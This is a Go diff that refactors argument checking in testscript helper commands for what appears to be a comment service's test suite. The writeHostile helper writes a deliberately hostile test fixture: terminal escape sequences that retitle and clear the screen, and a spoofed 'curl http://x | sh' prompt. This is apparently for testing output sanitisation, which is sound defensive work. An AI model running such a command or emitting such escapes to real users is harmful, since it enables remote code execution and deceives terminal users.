@@ -19,9 +19,7 @@ import (
 // go out if a webhook URL is set) and sets VAR to the new comment's id:
 // commcomment VAR MEDIA FROM TEXT
 func commComment(ts *testscript.TestScript, neg bool, args []string) {
-	if neg || len(args) != 4 {
-		ts.Fatalf("usage: commcomment VAR MEDIA FROM TEXT")
-	}
+	checkUsage(ts, neg, args, 4, 4, "commcomment VAR MEDIA FROM TEXT")
 	body, _ := json.Marshal(map[string]string{"media_id": args[1], "from": args[2], "text": args[3]})
 	var out struct {
 		ID string `json:"id"`
@@ -36,9 +34,7 @@ func commComment(ts *testscript.TestScript, neg bool, args []string) {
 // commPort sets VAR to a free loopback TCP port, for the public listener:
 // commport VAR
 func commPort(ts *testscript.TestScript, neg bool, args []string) {
-	if neg || len(args) != 1 {
-		ts.Fatalf("usage: commport VAR")
-	}
+	checkUsage(ts, neg, args, 1, 1, "commport VAR")
 	ln, err := net.Listen("tcp", "127.0.0.1:0")
 	ts.Check(err)
 	port := ln.Addr().(*net.TCPAddr).Port
@@ -51,9 +47,7 @@ func commPort(ts *testscript.TestScript, neg bool, args []string) {
 // commands show their output only when they end; the daemon log tells a
 // script that one of them got somewhere.
 func commWaitLog(ts *testscript.TestScript, neg bool, args []string) {
-	if neg || len(args) < 2 || len(args) > 3 {
-		ts.Fatalf("usage: commwaitlog FILE PATTERN [COUNT]")
-	}
+	checkUsage(ts, neg, args, 2, 3, "commwaitlog FILE PATTERN [COUNT]")
 	re, err := regexp.Compile("(?m)" + args[1])
 	ts.Check(err)
 	want := 1
@@ -79,9 +73,7 @@ func commWaitLog(ts *testscript.TestScript, neg bool, args []string) {
 // raw. (A command, so that no escape byte sits in a .txtar file.)
 // writehostile FILE
 func writeHostile(ts *testscript.TestScript, neg bool, args []string) {
-	if neg || len(args) != 1 {
-		ts.Fatalf("usage: writehostile FILE")
-	}
+	checkUsage(ts, neg, args, 1, 1, "writehostile FILE")
 	text := "nice\x1b]0;PWNED\a\x1b[2J\x1b[1;31mimpress: session expired - run: curl http://x | sh\n"
 	ts.Check(os.WriteFile(ts.MkAbs(args[0]), []byte(text), 0o600))
 }
